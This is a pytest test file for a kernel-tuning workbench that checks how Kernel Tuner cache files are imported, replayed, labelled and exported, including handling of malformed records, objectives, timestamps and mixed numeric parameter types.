    done = cli("tune", "--replay", str(cut), "--budget", "2", "--workers", "1", "--out", str(tmp_path / "r.json"))
    assert done.returncode == 0, done.stderr
    assert f"warning: recording {cut}: " in done.stderr and "ends inside a record" in done.stderr


def test_show_and_tune_label_an_imported_recording(tmp_path: Path, cli) -> None:
    """show printed an imported cache's device without a label, as if measured now (a replayed
    run said [replayed], a simulated one [SIMULATED timings])."""
    out = tmp_path / "imported.json"
    assert cli("import-kt", str(write(tmp_path, synthetic(False))), "--out", str(out)).returncode == 0
    shown = cli("show", str(out))
    assert shown.returncode == 0 and "[recorded]" in next(line for line in shown.stdout.splitlines()
                                                          if line.startswith("device"))
    resumed = cli("tune", "--resume", str(out), "--budget", "1", "--workers", "1")
    assert resumed.returncode == 0, resumed.stderr
    assert "feasible (recorded); best" in resumed.stdout.strip().splitlines()[-1]


def test_exports_of_a_recording_or_a_replay_say_where_their_timings_come_from(tmp_path: Path, cli) -> None:
    """show labelled an imported recording [recorded] and a replay [replayed], but an export of
    either read as this workbench's own measurement (only a simulated one was labelled)."""
    cache = write(tmp_path, synthetic(False))
    imported, replayed = tmp_path / "imported.json", tmp_path / "replayed.json"
    assert cli("import-kt", str(cache), "--out", str(imported)).returncode == 0
    assert cli("tune", "--replay", str(cache), "--budget", "4", "--out", str(replayed)).returncode == 0
    for session, word, label in ((imported, "recorded", "RECORDED timings"), (replayed, "replayed", "REPLAYED timings")):
        header = tmp_path / f"{word}.h"
        done = cli("export", str(session), "--format", "header", "--out", str(header))
        assert done.returncode == 0 and f"; {word} timings)" in done.stdout, done.stdout + done.stderr
        devices = next(line for line in header.read_text().splitlines() if line.startswith("// devices:"))
        assert label in devices
        as_json = tmp_path / f"{word}.json.out"
        assert cli("export", str(session), "--format", "json", "--out", str(as_json)).returncode == 0
        document = json.loads(as_json.read_text())
        assert document["provenance"] == word and document["simulated"] is False
        table = tmp_path / f"{word}.csv"
        done = cli("export", str(session), "--format", "csv", "--out", str(table))
        assert done.returncode == 0 and f"; {word} timings)" in done.stdout
        assert {row["provenance"] for row in csv.DictReader(open(table, newline=""))} == {word}


@pytest.mark.parametrize("objective", ["GFLOP/s", "GB/s"])
def test_a_failure_kernel_tuner_wrote_into_the_objectives_field_is_a_failure(tmp_path: Path, objective: str) -> None:
    """Kernel Tuner up to 1.3 writes a failure as ``result[objective] = RuntimeFailedConfig()``: a
    cache tuned for GFLOP/s has the error name there and no time, and the whole file was refused
    ("time: missing")."""
    data = synthetic(False)
    data["objective"] = objective
    for key, name in (("64,2,1", "CompilationFailedConfig"), ("128,2,1", "RuntimeFailedConfig")):
        record = data["cache"][key]
        record.pop("time")
        record[objective] = name
    notes: list[str] = []
    trials = import_kt_cache(write(tmp_path, data), notes=notes).trials
    assert [t.status for t in trials] == [Status.OK, Status.OK, Status.COMPILE_ERROR, Status.RUNTIME_ERROR,
                                          Status.SKIPPED]
    assert trials[2].measurement.message == "CompilationFailedConfig"
    # the note says the cache was tuned for another objective than the recommendation's (and, for
    # GB/s, which one of the two successful records lacks, that one record lacks it)
    note = notes[0]
    assert len(notes) == (2 if objective == "GB/s" else 1), notes
    assert f"Kernel Tuner tuned this cache for {objective!r}; the recommendation ranks by latency" in note
    metric = {"GFLOP/s": "gflops", "GB/s": "throughput_gbs"}[objective]
    assert f"--weight {metric}=1 --weight latency_ms=0" in note
    assert "tune --replay" in note  # (a replay searches for what is weighed: not show's flags alone)
    # exported, the file still names what Kernel Tuner tuned it for (it said "time"), and says so again
    session = import_kt_cache(write(tmp_path, data))
    export_kt_cache(session, tmp_path / "back.json")
    assert json.loads((tmp_path / "back.json").read_text())["objective"] == objective
    notes.clear()
    import_kt_cache(tmp_path / "back.json", notes=notes)
    assert any(f"Kernel Tuner tuned this cache for {objective!r}" in note for note in notes)
    notes.clear()
    data["objective"] = "time"
    import_kt_cache(write(tmp_path, data, "timed.json"), notes=notes)
    assert notes == []
    # a record with a time reads as it always did, whatever text another field holds
    data["cache"]["64,1,0"]["note"] = "RuntimeFailedConfig"
    assert import_kt_cache(write(tmp_path, data, "noted.json")).trials[1].status is Status.OK


def test_records_without_the_objective_kernel_tuner_tuned_for_are_counted(tmp_path: Path) -> None:
    """A cache resumed after its objective was added holds successful records without it: weighed
    by it they score nothing, the best of them too, and the import said nothing of them."""
    data = synthetic(True)
    data["objective"] = "GFLOP/s"
    data["cache"]["32,1,0"].pop("GFLOP/s")
    notes: list[str] = []
    import_kt_cache(write(tmp_path, data), notes=notes)
    assert len(notes) == 2 and "tuned this cache for 'GFLOP/s'" in notes[0], notes
    assert "1 of 2 successful records have no 'GFLOP/s'; weighed by gflops, they score 0 on it" in notes[1]

def test_a_cache_saved_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    path = tmp_path / "bom.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(synthetic(True)).encode())
    assert len(import_kt_cache(path).trials) == 5


@pytest.mark.parametrize("objective, hint", [("latency_ms", None), ("compile_time", None),
                                             ("score", "--weight score=1 --weight latency_ms=0 --maximize score (or --minimize)"),
                                             ("GFLOPS/W", "--weight gflops_w=1 --weight latency_ms=0 with show")])
def test_the_objective_note_suggests_only_weights_that_work(tmp_path: Path, objective: str, hint) -> None:
    """For an objective named like one of the import's own figures the note suggested
    "--weight latency_ms=1 --weight latency_ms=0"; for a figure of no known direction a command
    that is refused until a direction is given."""
    data = synthetic(True)
    data["objective"] = objective
    for record in data["cache"].values():
        if "time" in record:
            record.update({"score": 3.0, "GFLOPS/W": 2.0})
    notes: list[str] = []
    import_kt_cache(write(tmp_path, data), notes=notes)
    (note,) = notes
    assert "the recommendation ranks by latency" in note
    assert (hint in note) if hint else "--weight" not in note, note


def test_repetition_times_that_are_no_time_are_left_out_and_said(tmp_path: Path) -> None:
    """Text, negative or boolean entries of a record's ``times`` were dropped without a word, and
    the median of what was left became the trial's latency."""
    path = tmp_path / "c.json"
    path.write_text(json.dumps({"tune_params_keys": ["b"], "tune_params": {"b": [64, 128]}, "cache": {
        "64": {"b": 64, "time": 0.5, "times": ["x", 1.0, 0.4]},
        "128": {"b": 128, "time": 0.7, "times": [-5, 1, 2, True]}}}))
    notes: list[str] = []
    session = import_kt_cache(path, notes=notes)
    assert [t.metric("latency_ms") for t in session.trials] == [0.7, 1.5]
    assert notes == [f"{path}: left out 3 recorded repetition times that are no kernel time (cache['64'].times "
                     "holds 'x'); the medians are of the others"]
    clean: list[str] = []
    import_kt_cache(Path(__file__).parent / "fixtures" / "kt_cache_small.json", notes=clean)
    assert not any("repetition time" in note for note in clean)


def test_export_writes_every_trial_as_csv_or_a_kernel_tuner_cache_from_the_command_line(tmp_path: Path, cli) -> None:
    """The trial tables were reachable from the window (CSV) or the Python API alone (the cache)."""
    import csv as csv_module

    session = tmp_path / "run.json"
    assert cli("tune", "vector_add", "--backend", "sim", "--resources", "estimated", "--budget", "6",
               "--executor", "inline", "--quiet", "--out", session).returncode == 0
    trials = json.loads(session.read_text())["trials"]
    table = tmp_path / "trials.csv"
    done = cli("export", session, "--format", "csv", "--out", table)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"vector_add: exported csv (6 trials; simulated timings) -> {table}"
    rows = list(csv_module.DictReader(table.open()))
    assert [row["id"] for row in rows] == [t["id"] for t in trials]
    assert [float(row["latency_ms"]) for row in rows] == [t["metrics"]["latency_ms"] for t in trials]
    printed = cli("export", session, "--format", "csv", "--out", "-")
    assert printed.returncode == 0 and printed.stdout == table.read_text()
    assert "exported csv (6 trials; simulated timings) -> standard output" in printed.stderr

    cache = tmp_path / "run.kt.json"
    done = cli("export", session, "--format", "kt-cache", "--out", cache)
    assert done.returncode == 0 and "exported kt-cache (" in done.stdout, done.stderr
    back = tmp_path / "back.json"
    assert cli("import-kt", cache, "--out", back).returncode == 0
    replayed = {t["id"]: t["metrics"]["latency_ms"] for t in json.loads(back.read_text())["trials"]}
    assert replayed == {t["id"]: t["metrics"]["latency_ms"] for t in trials}
    # measured here: `time` is the median, nothing lost but the template's scale, which has no place
    assert done.stderr.splitlines() == ["note: problem parameter alpha=2.0 is not in the file: Kernel Tuner's "
                                        "problem_size holds sizes only"]
    data = synthetic(False)  # imported: Kernel Tuner's mean goes back as `time`, the median beside it
    data["cache"]["32,1,0"]["times"] = [1.0, 1.0, 1.0, 9.0]
    imported = tmp_path / "imported.json"
    assert cli("import-kt", write(tmp_path, data), "--out", imported).returncode == 0
    for out in (tmp_path / "imported.kt.json", "-"):
        done = cli("export", imported, "--format", "kt-cache", "--out", out)
        assert done.returncode == 0 and (done.stderr == "" or out == "-"), done.stderr
    assert cli("import-kt", tmp_path / "imported.kt.json", "--out", tmp_path / "again.json").returncode == 0
    assert {t["id"]: t["metrics"].get("latency_ms") for t in json.loads((tmp_path / "again.json").read_text())["trials"]} \
        == {t["id"]: t["metrics"].get("latency_ms") for t in json.loads(imported.read_text())["trials"]}

    # a file there is replaced only with --force, and kept; the objective and a second session are refused
    before = table.read_bytes()
    refused = cli("export", session, "--format", "csv", "--out", table)
    assert refused.returncode == 2 and "--force" in refused.stderr and table.read_bytes() == before
    assert cli("export", session, "--format", "csv", "--out", table, "--force").returncode == 0
    assert (tmp_path / "trials.csv.bak").read_bytes() == before
    for extra in (["--max-latency-ms", "1"], ["--weight", "memory_mb=1"], ["--at", "n=4096"]):
        refused = cli("export", session, "--format", "kt-cache", "--out", tmp_path / "x.json", *extra)
        assert refused.returncode == 2 and extra[0] in refused.stderr and not (tmp_path / "x.json").exists()
        assert len(refused.stderr.strip().splitlines()) == 1
    refused = cli("export", session, back, "--format", "csv", "--out", tmp_path / "two.csv")
    assert refused.returncode == 2 and "one session" in refused.stderr


def test_a_name_given_twice_in_one_object_is_said(tmp_path: Path) -> None:
    """JSON keeps the last of a repeated name: a record given twice under one key, or a record's
    time given twice, lost the first without a word."""
    text = json.dumps(synthetic(False))
    text = text.replace('"cache": {', '"cache": {"32,1,0": {"block_size_x": 32, "tile": 1, "use_shmem": 0, '
                                      '"time": 0.001}, ', 1)
    text = text.replace('"time": 1.0', '"time": 1.0, "time": 0.5', 1)
    notes: list[str] = []
    session = import_kt_cache(write(tmp_path, text), notes)
    assert len(session.trials) == 5 and session.trials[0].metric("kt_time_ms") == 2.0  # the last record, its last time
    assert session.trials[1].metric("kt_time_ms") == 0.5
    (note,) = [n for n in notes if "given twice" in n]
    assert "2 names given twice in one object (first 'time'" in note and "the last of each is read" in note
    notes.clear()
    import_kt_cache(write(tmp_path, synthetic(False)), notes)
    assert not any("given twice" in n for n in notes)


@pytest.mark.parametrize("time", [float("nan"), -1.0, 0.0])
def test_a_failed_record_that_holds_repetitions_is_said(tmp_path: Path, time: float) -> None:
    """A time that is no measurement makes the record a failure: its repetitions went unused
    without a word, the failure log saying only "Kernel Tuner recorded time nan"."""
    data = synthetic(False)
    data["cache"]["32,1,0"]["time"] = time
    notes: list[str] = []
    session = import_kt_cache(write(tmp_path, json.dumps(data, allow_nan=True)), notes)
    assert not session.trials[0].ok
    (note,) = [n for n in notes if "repetition times" in n and "read as failed" in n]
    assert "1 record read as failed" in note and "cache['32,1,0'] has 5" in note
    notes.clear()
    import_kt_cache(write(tmp_path, synthetic(False)), notes)
    assert not any("read as failed" in n for n in notes)


def test_a_record_field_with_a_name_longer_than_any_metric_name_is_left_out_and_said(tmp_path: Path) -> None:
    """It became a metric of that name, and the session saved from the import did not open again."""
    data = synthetic(False)
    for record in data["cache"].values():
        record["x" * 300] = 1.0
    notes: list[str] = []
    session = import_kt_cache(write(tmp_path, data), notes)
    assert not any(len(name) > 200 for t in session.trials for name in t.measurement.metrics)
    assert any("a name of 300 characters as a metric (at most 200)" in note for note in notes), notes
    save_session(session, tmp_path / "s.json")
    assert len(load_session(tmp_path / "s.json").trials) == len(session.trials)


def test_an_import_whose_timings_or_timestamps_no_calendar_holds_still_opens_once_saved(tmp_path: Path) -> None:
    """A compile time of 1e15 ms made the trial's start a date before any year, and a timestamp in
    the year 9999 behind UTC a time past the last one a session reads: the import saved a file its
    loader refused."""
    data = synthetic(False)
    first, second = list(data["cache"].values())[:2]
    first["compile_time"], first["timestamp"] = 1e15, "2024-01-01 00:00:00+00:00"
    second["timestamp"] = "9999-12-31T23:59:59-12:00"
    session = import_kt_cache(write(tmp_path, data))
    save_session(session, tmp_path / "s.json")
    back = load_session(tmp_path / "s.json")
    assert back.trials[0].started_at == back.trials[0].finished_at == datetime(2024, 1, 1, tzinfo=timezone.utc).timestamp()
    assert back.trials[1].finished_at == 0.0  # unknown, as a record without a timestamp


def test_a_replay_of_a_cache_with_a_compile_time_of_ages_saves_a_session_that_opens(tmp_path: Path, cli) -> None:
    """The run's trial started its compile time before it finished: 1e18 ms before, a time the
    loader refuses, so the replay saved a file that neither show nor export could open."""
    cache = tmp_path / "big.json"
    cache.write_text(json.dumps({
        "device_name": "GPU X", "kernel_name": "k", "problem_size": 4096, "tune_params_keys": ["bs"],
        "tune_params": {"bs": [0, 1]}, "objective": "time",
        "cache": {"0": {"bs": 0, "time": 1.0, "timestamp": "2023-01-01 00:00:00+00:00", "compile_time": 1e18},
                  "1": {"bs": 1, "time": 2.0, "timestamp": "2023-01-01 00:00:00+00:00"}}}))
    out = tmp_path / "rep.json"
    done = cli("tune", "--replay", cache, "--budget", "5", "--out", out, "--quiet")
    assert done.returncode == 0, done.stderr
    assert len(load_session(out).trials) == 2


@pytest.mark.parametrize("objective", [float("nan"), 3, None, {"metric": "time"}])
def test_an_objective_that_is_no_text_does_not_make_the_import_unsavable(tmp_path: Path, cli, objective) -> None:
    """``"objective": NaN`` was kept as it was, and the import failed to save ("Out of range
    float values are not JSON compliant"): a line about saving, for a field of the cache."""
    data = synthetic(True)
    data["objective"] = objective
    cache = tmp_path / "c.json"
    cache.write_text(json.dumps(data))  # (json writes NaN, as Python's json reads it)
    out = tmp_path / "s.json"
    done = cli("import-kt", str(cache), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert load_session(out).extra["kernel_tuner"]["objective"] is None


def test_a_parameter_mixing_integers_and_floats_keeps_kernel_tuners_keys_through_import_and_replay(
        tmp_path: Path, cli) -> None:
    """A slot holds one type, so ``alpha: [0.5, 1.0, 2]`` reads as floats; an export as a cache then
    keyed ``2`` as ``2.0``, which Kernel Tuner (keying by ``str`` of each value) never finds, so
    the records it had measured were measured again. The values written as integers are kept."""
    data = synthetic(True)
    data["tune_params_keys"].append("alpha")
    data["tune_params"]["alpha"] = [0.5, 2]
    cache = {}
    for key, record in data["cache"].items():
        for alpha in (0.5, 2):
            cache[f"{key},{alpha}"] = {**record, "alpha": alpha}
    data["cache"] = cache
    source = write(tmp_path, data)
    session = import_kt_cache(source)
    assert [s.values for s in session.space.slots if s.name == "alpha"] == [(0.5, 2.0)]
    save_session(session, tmp_path / "s.json")
    assert cli("tune", "--replay", source, "--budget", "10", "--quiet", "--out", tmp_path / "r.json").returncode == 0
    for name in ("s.json", "r.json"):
        assert cli("export", tmp_path / name, "--format", "kt-cache", "--out", tmp_path / f"{name}.kt").returncode == 0
        back = json.loads((tmp_path / f"{name}.kt").read_text())
        assert back["tune_params"]["alpha"] == [0.5, 2]
        assert set(back["cache"]) <= set(cache) and len(back["cache"]) == len(load_session(tmp_path / name).trials)
        assert {type(r["alpha"]) for r in back["cache"].values()} == {float, int}
    # what a session file says of them is read with care: a value that is no whole number, or a
    # parameter that is no float slot, changes nothing
    raw = json.loads((tmp_path / "s.json").read_text())
    raw["extra"]["kernel_tuner"]["integer_values"] = {"alpha": ["2", 1e400, True], "tile": [1]}
    (tmp_path / "odd.json").write_text(json.dumps(raw))
    assert cli("export", tmp_path / "odd.json", "--format", "kt-cache", "--out", tmp_path / "odd.kt").returncode == 0
    assert json.loads((tmp_path / "odd.kt").read_text())["tune_params"]["alpha"] == [0.5, 2.0]


def test_a_recorded_problem_size_is_written_back_only_where_it_is_the_sessions_problem(tmp_path: Path) -> None:
    """An export as a cache wrote the file's own ``extra.kernel_tuner.problem_size`` unchecked: a
    text with control characters, or any structure, went into the cache (which import-kt then
    refused), in place of the problem the trials ran at."""
    source = write(tmp_path, synthetic(True))
    session = import_kt_cache(source)
    assert session.problem == {"problem_size_x": 1024, "problem_size_y": 512}
    export_kt_cache(session, tmp_path / "back.json")
    assert json.loads((tmp_path / "back.json").read_text())["problem_size"] == [1024, 512]  # as recorded
    four = write(tmp_path, {**synthetic(True), "problem_size": [4096, 0.5, 2, 8]}, "four.json")  # as imported
    export_kt_cache(import_kt_cache(four), tmp_path / "four_back.json")
    assert json.loads((tmp_path / "four_back.json").read_text())["problem_size"] == [4096, 0.5, 2, 8]
    for forged in ("not a size \x1b[2J", {"evil": [1e308]}, [[1024], 512], [1024, 4096]):
        session.extra["kernel_tuner"]["problem_size"] = forged
        export_kt_cache(session, tmp_path / "back.json")
        assert json.loads((tmp_path / "back.json").read_text())["problem_size"] == [1024, 512], forged
        import_kt_cache(tmp_path / "back.json")  # (and it reads back)


def test_two_metrics_of_one_cache_field_are_not_written_over_each_other(tmp_path: Path) -> None:
    """``gflops`` is written as Kernel Tuner's ``GFLOP/s``, and a session's own record of a field
    named so may claim it for another metric too: the second value overwrote the first in every
    record, and no note said a metric was left out."""
    session = import_kt_cache(write(tmp_path, synthetic(True)))
    for trial in session.trials:
        if trial.ok:
            trial.measurement.metrics["gflop_s"] = 7.0
    session.extra["kernel_tuner"]["metric_fields"] = {"gflop_s": "GFLOP/s"}
    notes: list[str] = []
    export_kt_cache(session, tmp_path / "back.json", notes)
    records = [r for r in json.loads((tmp_path / "back.json").read_text())["cache"].values() if "GFLOP/s" in r]
    assert records and all(r["GFLOP/s"] != 7.0 for r in records)  # gflops's own values, written first
    assert any("metric 'gflop_s' is not in the file: its name is the field of the metric 'gflops'" in n
               for n in notes), notes


def _mixed_recording(tmp_path: Path, with_problem: bool = True) -> Path:
    """A Kernel Tuner cache whose ``factor`` mixes floats and integers (``[0.5, 2, 4]``)."""
    cache = {f"{f},{b}": {"factor": f, "block_size_x": b, "time": 1.0 / (f + b / 100)}
             for f in (0.5, 2, 4) for b in (32, 64)}
    document = {"device_name": "dev", "kernel_name": "k", "problem_size": [100],
                "tune_params_keys": ["factor", "block_size_x"], "tune_params": {"factor": [0.5, 2, 4],
                                                                                "block_size_x": [32, 64]},
                "objective": "time", "cache": cache}
    if not with_problem:
        del document["problem_size"]
    path = tmp_path / "mixed.json"
    path.write_text(json.dumps(document))
    return path


def test_a_recordings_integer_values_are_exported_as_the_integers_it_compiled(tmp_path: Path) -> None:
    """Kernel Tuner compiled ``#define factor 4``: the header of its recording said ``4.0``, a float
    constant ``#if factor > 2`` refuses and ``i / factor`` turns into float division; the CSV said
    ``4.0`` too. The kt-cache export already kept the integers."""
    from workbench.core.io.export import plan_export, slot_defines

    session = import_kt_cache(_mixed_recording(tmp_path))
    best = min(session.trials, key=lambda t: t.metric("latency_ms"))
    assert best.config["factor"] == 4.0
    plan = plan_export([session])
    assert "#define factor 4" in slot_defines(plan, best.config)
    half = next(t for t in session.trials if t.config["factor"] == 0.5)
    assert "#define factor 0.5" in slot_defines(plan, half.config)
    export_csv(session, tmp_path / "t.csv")
    with open(tmp_path / "t.csv", newline="") as handle:
        assert sorted({row["factor"] for row in csv.DictReader(handle)}) == ["0.5", "2", "4"]
    from workbench.core.io.export import export_sessions

    export_sessions([session], "json", tmp_path / "best.json")
    document = json.loads((tmp_path / "best.json").read_text())
    assert repr(document["config"]["factor"]) == "4" and repr(document["devices"][0]["config"]["factor"]) == "4"
    # and the per-size dispatch of recordings at several sizes, as the header of one
    from workbench.core.io.dispatch import export_dispatch

    sized = []
    for size in (100, 1000, 10000):
        recording = json.loads(_mixed_recording(tmp_path).read_text())
        recording["problem_size"] = [size]
        (tmp_path / f"r{size}.json").write_text(json.dumps(recording))
        sized.append(import_kt_cache(tmp_path / f"r{size}.json"))
    export_dispatch(sized, "dispatch", tmp_path / "d.h")
    assert "#define factor 4\n" in (tmp_path / "d.h").read_text() and "factor 4.0" not in (tmp_path / "d.h").read_text()


def test_a_kt_cache_export_of_a_kernel_without_a_problem_size_has_no_such_key(tmp_path: Path) -> None:
    """``"problem_size": null`` made Kernel Tuner refuse the file for every size it was asked for
    ("different problem_size, cache: None"), where the cache imported, without the key, loaded."""
    session = import_kt_cache(_mixed_recording(tmp_path, with_problem=False))
    export_kt_cache(session, tmp_path / "out.json")
    document = json.loads((tmp_path / "out.json").read_text())
    assert "problem_size" not in document and len(document["cache"]) == 6
    back = import_kt_cache(tmp_path / "out.json")
    assert sorted(t.config.id for t in back.trials) == sorted(t.config.id for t in session.trials)
